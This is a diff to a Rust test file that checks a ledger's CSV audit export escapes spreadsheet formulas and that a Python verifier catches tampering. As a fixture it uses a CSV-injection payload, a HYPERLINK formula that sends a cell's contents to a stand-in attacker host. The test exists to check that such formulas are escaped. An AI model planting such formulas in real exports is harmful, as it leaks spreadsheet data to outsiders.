@@ -561,25 +561,99 @@ fn every_event_kind_exports_a_csv_that_verifies() {
     }
 }
 
+/// The strings of `NAME = [...]` or `NAME = (...)` in the verifier's source.
+fn python_strings(source: &str, name: &str) -> Vec<String> {
+    let start = format!("\n{name} = ");
+    let list = source
+        .split_once(start.as_str())
+        .and_then(|(_, rest)| rest.get(1..)?.split_once([']', ')']))
+        .map(|(list, _)| list)
+        .unwrap_or_else(|| panic!("tools/verify_chain.py defines no {name}"));
+    list.split(',')
+        .map(|item| item.trim().trim_matches('"'))
+        .filter(|item| !item.is_empty())
+        .map(|item| item.replace("\\t", "\t").replace("\\r", "\r"))
+        .collect()
+}
+
 #[test]
 fn the_verifiers_csv_columns_are_the_exports() {
     let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tools/verify_chain.py");
-    let text = std::fs::read_to_string(script).unwrap();
-    let list = text
-        .split_once("\nCSV_COLUMNS = [")
-        .and_then(|(_, rest)| rest.split_once(']'))
-        .map(|(list, _)| list)
-        .expect("tools/verify_chain.py defines CSV_COLUMNS = [...]");
-    let columns: Vec<&str> = list
-        .split(',')
-        .map(|item| item.trim().trim_matches('"'))
-        .filter(|item| !item.is_empty())
-        .collect();
+    let source = std::fs::read_to_string(script).unwrap();
     assert_eq!(
-        columns,
+        python_strings(&source, "CSV_COLUMNS"),
         rewind_projections::audit::CSV_COLUMNS,
         "change CSV_COLUMNS in tools/verify_chain.py and projections/src/audit.rs together"
     );
+    assert_eq!(
+        python_strings(&source, "FORMULA_STARTS"),
+        rewind_projections::audit::FORMULA_STARTS.map(String::from),
+        "change FORMULA_STARTS in tools/verify_chain.py and projections/src/audit.rs together"
+    );
+}
+
+#[test]
+fn spreadsheet_formulas_in_a_csv_stay_text_and_it_still_verifies() {
+    let env = populated();
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    assert_eq!(env.run(&["--actor", formula, "note", "checked"]).code, 0);
+    {
+        let chosen = Origin {
+            actor: "@ops".into(),
+            host: "-h".into(),
+        };
+        let mut ledger = Ledger::open(&env.ledger, chosen).unwrap();
+        let Event::RowsChanged(mut rows) = ledger.get(3).unwrap().record.event else {
+            panic!("seq 3 changed rows");
+        };
+        rows.table = "+SUM(1,2)".into();
+        ledger
+            .append_batch(vec![Draft::new(Some("'r2"), Event::RowsChanged(rows))])
+            .unwrap();
+    }
+    let (csv, text) = export_csv(&env, "trail.csv");
+    for cell in [
+        r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")",testhost,Note,,note: checked,"#,
+        r#",''r2,'@ops,'-h,RowsChanged,2,"'+SUM(1,2): 1 updated, 1 inserted, 0 deleted (chunk 0)","#,
+    ] {
+        assert!(text.contains(cell), "{cell} not in {text}");
+    }
+    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
+        assert!(ok, "{stdout}{stderr}");
+        assert!(stdout.starts_with("ok: 5 events"), "{stdout}");
+    }
+    let tampered = env.root().join("tampered.csv");
+    for (from, to, expected) in [
+        (
+            r#","'=HYPERLINK"#,
+            r#","=HYPERLINK"#,
+            "row 4: seq 4: the actor column is written '=HYPERLINK",
+        ),
+        (
+            r#","'+SUM(1,2):"#,
+            r#","+SUM(1,2):"#,
+            "row 5: seq 5: the summary column starts with '+'",
+        ),
+        (
+            ",'@ops,",
+            ",'@opz,",
+            "row 5: seq 5: the actor column says '@opz', its record '@ops'",
+        ),
+        (
+            ",testhost,Note,",
+            ",'testhost,Note,",
+            "row 4: seq 4: the host column is written \"'testhost\", the export writes 'testhost'",
+        ),
+    ] {
+        assert!(text.contains(from), "{from}");
+        std::fs::write(&tampered, text.replacen(from, to, 1)).unwrap();
+        if let Some((ok, _, stderr)) = python_verifier(&tampered, &[]) {
+            assert!(
+                !ok && stderr.contains(expected),
+                "{expected:?} not in {stderr}"
+            );
+        }
+    }
 }
 
 #[test]
